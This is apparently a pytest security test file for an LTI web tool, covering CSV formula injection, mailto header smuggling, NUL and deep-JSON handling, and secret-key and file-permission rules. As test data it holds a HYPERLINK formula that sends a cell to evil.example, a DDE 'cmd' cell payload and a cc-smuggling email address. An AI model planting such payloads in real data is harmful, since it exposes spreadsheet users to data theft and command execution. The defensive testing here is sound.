"""Hardening (issue 14): CSV formula injection, mailto: smuggling, no 500s on huge page numbers
or over-deep JSON, the development configuration's SECRET_KEY and instance/ file modes."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import requests
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner

from lti_tool import create_app, is_loopback, listen_host
from lti_tool.dev.platform import dev_platform
from lti_tool.extensions import db
from lti_tool.kpis.reports import to_csv
from lti_tool.models import Person
from lti_tool.platforms import PlatformError, parse_jwks
from tests.helpers.admin import add_admin, sign_in
from tests.helpers.api import bearer, make_token
from tests.helpers.client import https_client
from tests.helpers.platform import FakePlatform
from tests.helpers.processes import ROOT, free_port

ANY = "0.0.0.0"  # noqa: S104 (the address that listens everywhere)
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
EVIL_EMAIL = "a@example.edu?cc=spy@evil.example&body=hi"


def _rename(app: Flask, person_id: int, name: str, email: str) -> None:
    with app.app_context():
        person = db.session.get(Person, person_id)
        person.name = name
        person.email = email
        db.session.commit()


# --- CSV exports ------------------------------------------------------------------------------


def test_csv_cells_a_spreadsheet_would_run_are_neutralised() -> None:
    rows = [
        {"a": "=1+2", "b": "+SUM(A1)", "c": "-cmd|' /C calc'!A0", "d": "@SUM(A1)"},
        {"a": "\tx", "b": "\r=1", "c": "-2.5", "d": -2.5},
        {"a": ["=x", "y"], "b": "plain", "c": 7, "d": None},
    ]
    text = to_csv(rows, ("a", "b", "c", "d"))
    out = list(csv.reader(io.StringIO(text, newline="")))
    assert out[1] == ["'=1+2", "'+SUM(A1)", "'-cmd|' /C calc'!A0", "'@SUM(A1)"]
    assert out[2] == ["'\tx", "'\r=1", "-2.5", "-2.5"]  # numbers stay numbers
    assert out[3] == ["'=x; y", "plain", "7", ""]


def test_learners_and_address_csv_exports_neutralise_formulas(
    app: Flask,
    client: FlaskClient,
    seeded: dict[str, Any],
) -> None:
    _rename(app, seeded["A"], EVIL_NAME, "@evil@example.edu")
    learners = client.get(f"/courses/1/learners.csv?t={seeded['t']}")
    rows = list(csv.DictReader(io.StringIO(learners.get_data(as_text=True))))
    ada = next(r for r in rows if "HYPERLINK" in r["name"])
    assert ada["name"] == "'" + EVIL_NAME and ada["email"] == "'@evil@example.edu"
    addresses = client.post(
        "/courses/1/learners/email",
        data={"t": seeded["t"], "format": "csv", "person": [seeded["A"]]},
    )
    rows = list(csv.DictReader(io.StringIO(addresses.get_data(as_text=True))))
    assert [(r["name"], r["email"]) for r in rows] == [("'" + EVIL_NAME, "'@evil@example.edu")]


# --- mailto: ----------------------------------------------------------------------------------


def test_an_address_cannot_smuggle_headers_into_mailto_links(
    app: Flask,
    client: FlaskClient,
    seeded: dict[str, Any],
) -> None:
    _rename(app, seeded["A"], "Ada A", EVIL_EMAIL)
    encoded = "a@example.edu%3Fcc%3Dspy@evil.example%26body%3Dhi"
    t = seeded["t"]
    table = client.get(f"/courses/1/learners?t={t}").get_data(as_text=True)
    page = client.get(f"/courses/1/learners/{seeded['A']}?t={t}").get_data(as_text=True)
    chosen = client.post(
        "/courses/1/learners/email", data={"t": t, "person": [seeded["A"], seeded["B"]]}
    ).get_data(as_text=True)
    for html in (table, page):
        links = re.findall(r'href="(mailto:[^"]*)"', html)
        assert f"mailto:{encoded}" in links
        assert not any("?" in link for link in links)
    assert f'href="mailto:?bcc={encoded},b@example.edu"' in chosen
    assert "cc=spy" not in "".join(re.findall(r'href="(mailto:[^"]*)"', chosen))


# --- no 500s: over-deep JSON, page numbers and ids past any ---------------------------------


def test_nul_characters_in_forms_queries_and_json_are_a_400_on_every_database(
    client: FlaskClient, runner: FlaskCliRunner, platform: FakePlatform
) -> None:
    # PostgreSQL text cannot hold NUL: each of these was a 500 there (the login's issuer lookup,
    # the event API's learner lookup), while SQLite stored the NUL.
    login = client.post(
        "/lti/login",
        data={"iss": platform.issuer + "\x00", "login_hint": "a", "target_link_uri": "x"},
    )
    assert login.status_code == 400 and "NUL character" in login.get_data(as_text=True)
    query = client.get("/privacy?x=%00")
    assert query.status_code == 400
    token = make_token(runner, "nul")
    lab = {"user": "a\x00b", "t": 1772445600000, "type": "log", "course": "x"}
    events = client.post("/api/v1/events", json=[lab], headers=bearer(token))
    assert events.status_code == 400 and "NUL character" in events.json["error"]
    statement = {
        "actor": {"mbox": "mailto:a\x00@example.org"},
        "verb": {"id": "http://x/v"},
        "object": {"id": "http://x/o"},
    }
    xapi_headers = {**bearer(token), "X-Experience-API-Version": "1.0.3"}
    xapi = client.post("/xapi/statements", json=statement, headers=xapi_headers)
    assert xapi.status_code == 400 and "NUL character" in xapi.json["error"]
    with client.application.app_context():
        assert db.session.query(Person).count() == 0


@pytest.mark.parametrize("depth", [300, 1025, 100_000])
def test_json_nested_deeper_than_allowed_is_a_400(
    client: FlaskClient, runner: FlaskCliRunner, depth: int
) -> None:
    token = make_token(runner, "deep")
    headers = {**bearer(token), "Content-Type": "application/json"}
    xapi = {**headers, "X-Experience-API-Version": "1.0.3"}
    nested = "[" * depth + "]" * depth
    # Deep inside a statement's extensions, and as the whole body.
    statement = '{"actor": {"mbox": "mailto:a@example.org"}, "verb": {"id": "http://x/v"}, '
    statement += '"object": {"id": "http://x/o"}, "context": {"extensions": {"http://x/e": '
    statement += nested + "}}}"
    for body in (nested, statement):
        for method, url, sent in (
            ("post", "/xapi/statements", xapi),
            ("put", "/xapi/statements?statementId=6f2b0e2c-1111-4c8e-9d0a-6a2d1c3b4e5f", xapi),
            ("post", "/api/v1/events", headers),
        ):
            response = getattr(client, method)(url, data=body, headers=sent)
            assert response.status_code == 400, (url, depth, response.status_code)
            assert "levels deep" in response.json["error"]


def test_a_page_number_or_id_past_any_is_a_400_not_a_500(
    app: Flask,
    client: FlaskClient,
    seeded: dict[str, Any],
) -> None:
    huge = "99999999999999999999"
    t = seeded["t"]
    for url in (
        f"/courses/1/learners?t={t}&page={huge}",
        f"/courses/1/access-log?t={t}&page={huge}",
    ):
        response = client.get(url)
        assert response.status_code == 400 and "past any page" in response.get_data(as_text=True)
    thousands = "9" * 5000  # more digits than Python converts to an int
    assert client.get(f"/courses/1/learners?t={t}&per={thousands}").status_code == 200
    assert client.get(f"/courses/1/learners?t={t}&page=\u00b2").status_code == 200  # "²"
    assert client.get(f"/courses/{huge}/learners?t={t}").status_code == 404
    assert client.get(f"/courses/1/learners/{thousands}?t={t}").status_code == 404
    add_admin(app)
    admin = https_client(app)
    assert sign_in(admin).status_code == 303
    for path in ("/admin/access-log", "/admin/audit", "/admin/courses", "/admin/launch-errors"):
        for query in (f"page={huge}", f"page={thousands}"):
            response = admin.get(f"{path}?{query}")
            assert response.status_code == 400, (path, response.status_code)
            assert "past any page" in response.get_data(as_text=True)
        assert admin.get(f"{path}?page=2").status_code == 200
    for query in (f"course={huge}", f"platform={huge}"):
        response = admin.get(f"/admin/audit?{query}")
        assert response.status_code == 400 and "is no id" in response.get_data(as_text=True)
    assert admin.get(f"/admin/access-log?course={huge}").status_code == 400


# --- the development configuration and instance/ ---------------------------------------------


def _flask_run(tmp_path: Path, args: list[str], **env: str) -> subprocess.Popen[str]:
    """`flask run` of the development configuration, with no SECRET_KEY unless given."""
    environ = {k: v for k, v in os.environ.items() if k not in ("SECRET_KEY", "DATABASE_URL")}
    environ.update(
        FLASK_APP="lti_tool",
        LTI_TOOL_CONFIG="development",
        LTI_TOOL_INSTANCE_PATH=str(tmp_path / "instance"),
        **env,
    )
    return subprocess.Popen(
        [str(Path(sys.executable).with_name("flask")), "run", "--no-reload", *args],
        env=environ,
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )


@pytest.mark.parametrize(
    ("args", "env"),
    [
        (["--host", ANY], {}),
        (["--host=192.0.2.7"], {}),
        ([], {"FLASK_RUN_HOST": ANY}),
        (["-h", "tool.example.org"], {}),
    ],
)
def test_development_refuses_the_default_key_beyond_loopback(
    tmp_path: Path, args: list[str], env: dict[str, str]
) -> None:
    proc = _flask_run(tmp_path, [*args, "--port", str(free_port())], **env)
    try:
        output, _ = proc.communicate(timeout=30)
    finally:
        proc.kill()
    assert proc.returncode != 0
    assert "ConfigError" in output and "default SECRET_KEY" in output, output


def test_development_starts_on_loopback_or_with_a_key_of_its_own(tmp_path: Path) -> None:
    for args, env in (
        (["--host", "127.0.0.1"], {}),
        (["--host", ANY], {"SECRET_KEY": "a-long-random-value-" + "x" * 20}),
    ):
        port = free_port()
        proc = _flask_run(tmp_path, [*args, "--port", str(port)], **env)
        try:
            for _ in range(120):
                try:
                    if requests.get(f"http://127.0.0.1:{port}/healthz", timeout=1).ok:
                        break
                except requests.RequestException:
                    time.sleep(0.25)
            else:
                proc.kill()
                raise AssertionError(proc.communicate()[0])
        finally:
            proc.terminate()
            proc.communicate(timeout=30)


def test_listen_host_and_loopback() -> None:
    assert listen_host(["flask", "run"], {}) == "127.0.0.1"
    assert listen_host(["flask", "--app", "x", "run", "--host", "::"], {}) == "::"
    assert listen_host(["flask", "db", "upgrade"], {"FLASK_RUN_HOST": "10.0.0.1"}) == "10.0.0.1"
    assert all(map(is_loopback, ("127.0.0.1", "127.1.2.3", "::1", "[::1]", "localhost")))
    assert not any(map(is_loopback, (ANY, "::", "10.0.0.1", "tool.example.org")))


def test_instance_files_are_owner_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    instance = tmp_path / "instance"
    monkeypatch.setenv("LTI_TOOL_INSTANCE_PATH", str(instance))
    old_umask = os.umask(0o022)  # the usual umask: files would be world-readable
    try:
        app = create_app({"CONFIG_NAME": "development", "SQLALCHEMY_DATABASE_URI": None})
        with app.app_context():
            db.create_all()
            dev_platform()
            db.session.remove()
            db.engine.dispose()
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE(instance.stat().st_mode) == 0o700
    for name in ("lti_tool.sqlite3", "dev_platform_key.pem"):
        assert stat.S_IMODE((instance / name).stat().st_mode) == 0o600, name
    # A database made before this rule is narrowed when the app starts.
    (instance / "lti_tool.sqlite3").chmod(0o644)
    create_app({"CONFIG_NAME": "development", "SQLALCHEMY_DATABASE_URI": None})
    assert stat.S_IMODE((instance / "lti_tool.sqlite3").stat().st_mode) == 0o600


def test_a_pasted_key_set_nested_too_deeply_is_refused_with_a_message() -> None:
    for depth in (300, 100_000):
        with pytest.raises(PlatformError, match="levels deep"):
            parse_jwks('{"keys": ' + "[" * depth + "]" * depth + "}")
